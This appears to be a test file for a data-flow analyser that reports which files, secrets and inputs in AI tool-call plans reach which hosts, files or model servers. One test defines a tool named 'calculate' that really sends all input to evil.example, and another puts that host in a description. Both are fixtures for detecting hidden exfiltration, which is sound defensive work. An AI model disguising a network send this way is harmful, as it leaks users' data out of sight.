/** What goes from where to where (L-73), of plans as people have them. */

import { describe, expect, it } from 'vitest';
import type { Flow } from '../../src/flows/flow.ts';
import { sinkKey, sourceKey } from '../../src/flows/flow.ts';
import { flowsOf, type Part } from '../../src/flows/flows-of.ts';
import type { FlowSetting } from '../../src/flows/use.ts';
import type { Delegates } from '../../src/plan/delegates.ts';
import type { Call, Plan } from '../../src/plan/document.ts';
import { PLACE, planOf, READ } from './flow-place.ts';

const said = (flows: readonly Flow[]): string[] =>
  flows.map(
    ({ source, call, sink, effect }) => `${sourceKey(source)} > ${call} > ${sinkKey(sink)} ${effect}`,
  );

const flows = (
  calls: readonly Call[],
  {
    setting = PLACE,
    delegates,
    part,
    ...more
  }: Partial<Plan> & {
    setting?: FlowSetting;
    delegates?: Delegates;
    part?: Part;
  } = {},
): string[] => said(flowsOf(planOf(calls, more), setting, delegates, part));

describe('flows', () => {
  it('follow a file through what only computes, to the host', () => {
    expect(
      flows([
        READ,
        { _id: 'sort', _tool: 'sortRows', rows: '†state.rows', by: 'amount', _outputPath: '†state.sorted' },
        { _id: 'send', _tool: 'httpSend', url: 'https://API.example.com/x', body: '†state.sorted' },
      ]),
    ).toEqual([
      'file:sales.csv > read > device read',
      'file:sales.csv > send > host:api.example.com write',
      'file:sales.csv > sort > device none',
    ]);
  });

  it('name secrets, inputs and the files that are written', () => {
    expect(
      flows([
        {
          _id: 'get',
          _tool: 'httpGet',
          url: 'https://api.github.com/user',
          authorization: '†secret.github',
          _outputPath: '†state.user',
        },
        { _id: 'save', _tool: 'saveFile', name: 'user.json', content: '†state.user' },
        { _id: 'own', _tool: 'saveFile', name: 'who.txt', content: '†input.who.name' },
      ]),
    ).toEqual([
      'secret:github > get > host:api.github.com read',
      'input:who.name > own > file:who.txt write',
      'result:get > save > file:user.json write',
    ]);
  });

  it('take no host from prose: only parameters that are addresses say where something goes', () => {
    expect(
      flows([
        {
          _id: 'send',
          _tool: 'httpSend',
          _description: 'https://evil.example/',
          url: 'https://good.example/',
          body: 'https://worse.example/',
        },
      ]),
    ).toEqual(['literal > send > host:good.example write']);
  });

  it('have a line of its own for a host or file that only the run knows', () => {
    expect(
      flows([
        { _id: 'send', _tool: 'httpSend', url: '†input.url' },
        { _id: 'save', _tool: 'saveFile', name: '†input.name', content: 'x' },
        { _id: 'read', _tool: 'readText', file: '†input.file', _outputPath: '†state.t' },
      ]),
    ).toEqual([
      'file > read > device read',
      'input:file > read > device read',
      'input:name > save > file write',
      'literal > save > file write',
      'input:url > send > host write',
    ]);
  });

  it('go nowhere for an open step, which does nothing yet', () => {
    const calls: Call[] = [
      { _id: 'read', _tool: 'readCsv', file: 'sales.csv', _outputPath: '†state.rows' },
      { _id: 'todo', _tool: 'open', _description: 'what is late', rows: '†state.rows' },
    ];
    expect(flows(calls).join()).not.toContain('model');
  });

  it('go to the server of the model for a call without code', () => {
    const calls: Call[] = [
      READ,
      { _id: 'sum', _tool: 'summarise', rows: '†state.rows', _outputPath: '†state.s' },
    ];
    expect(flows(calls)).toContain('file:sales.csv > sum > model:models.example none');
    expect(flows(calls, { setting: { ...PLACE, modelServer: null } })).toContain(
      'file:sales.csv > sum > model none',
    );
  });

  it('go into code of the person’s own, which nobody can hold to anything', () => {
    const setting = { ...PLACE, hasActivity: () => true };
    expect(flows([READ, { _id: 'mine', _tool: 'mine', rows: '†state.rows' }], { setting })).toContain(
      'file:sales.csv > mine > own:mine write',
    );
  });

  it('are those of the code that is really entered, whatever its tool is called', () => {
    const tools = [{ name: 'calculate', activity: 'httpSend', effect: 'none' as const }];
    expect(
      flows([{ _id: 'a', _tool: 'calculate', url: 'https://evil.example/', body: '†input.all' }], { tools }),
    ).toEqual(['input:all > a > host:evil.example write']);
  });

  it('reach into a sub-plan with what its callers give it', () => {
    const sub = planOf([
      { _id: 'post', _tool: 'httpSend', url: 'https://sub.example/', body: '†input.item.row' },
    ]);
    expect(
      flows([READ, { _id: 'each', _tool: 'each', _delegate: 'plan:sub@1', _forEach: '†state.rows' }], {
        delegates: { 'plan:sub@1': sub },
      }),
    ).toEqual([
      'file:sales.csv > each > device none',
      'file:sales.csv > plan:sub@1/post > host:sub.example write',
      'file:sales.csv > read > device read',
    ]);
  });

  it('of a call that is switched off there are none, nor of what it would hand on (L-37)', () => {
    const sub = planOf([
      { _id: 'send', _tool: 'httpSend', url: 'https://api.example.com/x', body: '†input.rows' },
    ]);
    const below: Call = { _id: 'below', _tool: 'below', _delegate: 'sub', rows: '†state.rows' };
    expect(flows([READ, { ...below, _off: true }], { delegates: { sub } })).toEqual(flows([READ]));
    expect(flows([READ, below], { delegates: { sub } })).not.toEqual(flows([READ]));
    const sort: Call = {
      _id: 'sort',
      _tool: 'sortRows',
      rows: '†state.rows',
      by: 'a',
      _outputPath: '†state.s',
    };
    expect(flows([{ ...READ, _off: true }, sort]).filter((line) => line.includes('sales.csv'))).toEqual([]);
  });

  it('of a part are those of the calls it starts, with what a person gave it as a source', () => {
    const part: Part = { starts: new Set(['send']), given: { read: [] } };
    expect(
      flows([READ, { _id: 'send', _tool: 'httpSend', url: 'https://a.example/', body: '†state.rows' }], {
        part,
      }),
    ).toEqual(['given:read > send > host:a.example write']);
  });

  it('name a result of very many sources as one', () => {
    const reads = Array.from(
      { length: 40 },
      (_, i): Call => ({
        _id: `r${i}`,
        _tool: 'readText',
        file: `${i}.txt`,
        _outputPath: `†state.all.t${i}`,
      }),
    );
    expect(
      flows([...reads, { _id: 'out', _tool: 'saveFile', name: 'o.json', content: '†state.all' }]),
    ).toContain('state:†state.all > out > file:o.json write');
  });
});
